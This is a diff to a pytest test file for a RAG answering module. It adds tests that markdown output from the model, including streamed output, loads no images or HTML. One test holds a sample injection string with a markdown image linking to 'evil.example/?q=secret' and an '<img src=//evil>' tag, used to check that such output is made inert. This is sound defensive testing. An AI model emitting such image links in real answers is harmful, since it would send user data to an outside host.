@@ -1,3 +1,5 @@
+import re
+import time
 from pathlib import Path
 
 import pytest
@@ -5,7 +7,7 @@ from fakes import make_image, make_node
 from llama_index.core.schema import NodeWithScore
 
 from mmrag.answering.context import Source
-from mmrag.answering.response import CitedResponse
+from mmrag.answering.response import CitedResponse, inert, shown
 
 
 @pytest.fixture
@@ -51,7 +53,7 @@ def test_figures_are_an_option_and_uncited_ones_are_left_out(figure, page):
 def test_images_and_html_of_the_model_are_not_loaded(page, attack):
     text = markdown(f"Rain fell [2]. {attack}", page)
     assert "![" not in text
-    assert "<" not in text
+    assert not re.search("<[a-zA-Z/!]", text)
 
 
 def test_not_found_has_no_sources(figure):
@@ -68,3 +70,24 @@ def test_a_figure_does_not_part_the_rows_of_a_table(figure):
     rows = "| Crop | t |\n|---|---|\n| Potatoes [1] | 9 |\n| Rye | 2 |"
     text = markdown(f"{rows}\nSo it was.", figure)
     assert text.startswith(f"{rows}\n\n![Figure 1")
+
+
+def test_a_stream_loads_nothing_either_however_it_is_cut():
+    said = "Rain ![x](https://evil.example/?q=secret) and <img src=//evil> fell! Is 1 < 2? Yes!!"
+    for size in (1, 2, 3, 7, 200):
+        pieces = (said[i : i + size] for i in range(0, len(said), size))
+        whole = "".join(shown(pieces))
+        assert whole == inert(said)
+    assert whole == (
+        "Rain ! [x](https://evil.example/?q=secret) and < img src=//evil> fell! Is 1 < 2? Yes!!"
+    )
+
+
+@pytest.mark.parametrize("head", ["<think>", "*" * 50, "", " " * 5000])
+@pytest.mark.parametrize("token", ["a > b ", "]]]]]]", "!!!!!!", "<<<<<<", "NOT_FO", "      "])
+def test_a_long_stream_costs_no_more_per_token(head, token):
+    """With all that was held searched again for each token, this takes minutes."""
+    started = time.process_time()
+    text = "".join(shown(iter([*head, *[token] * 40_000])))
+    assert time.process_time() - started < 30
+    assert len(text) <= len(head) + 2 * 40_000 * len(token)
